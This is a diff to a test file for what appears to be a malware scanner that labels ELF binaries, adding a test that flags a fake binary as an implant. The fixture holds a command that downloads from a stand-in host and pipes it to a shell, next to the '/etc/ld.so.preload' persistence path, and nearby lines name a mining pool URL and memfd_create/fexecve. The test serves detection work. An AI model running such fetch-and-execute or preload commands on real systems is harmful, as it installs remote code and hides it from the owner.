@@ -92,6 +92,13 @@ def test_miners_name_their_protocol_and_their_algorithm():
     assert "binary.mining" not in symbols(elf(body=b"\0stratum+tcp://pool.invalid\0"))
 
 
+def test_a_download_for_a_shell_beside_keys_is_an_implant():
+    fetched = b"\0curl -s https://barracuda.invalid/n|sh\0"
+    assert "binary.implant" in symbols(elf(body=fetched + b"/etc/ld.so.preload\0"))
+    assert "binary.implant" not in symbols(elf(body=fetched))
+    assert "binary.implant" not in symbols(elf(body=b"\0curl -s\0.ssh/authorized_keys\0"))
+
+
 def test_functions_that_only_names_speak_of_are_looked_up_in_the_header():
     names = b"\0memfd_create\0\0fexecve\0"
     assert "binary.memory-file" not in symbols(elf(body=names))
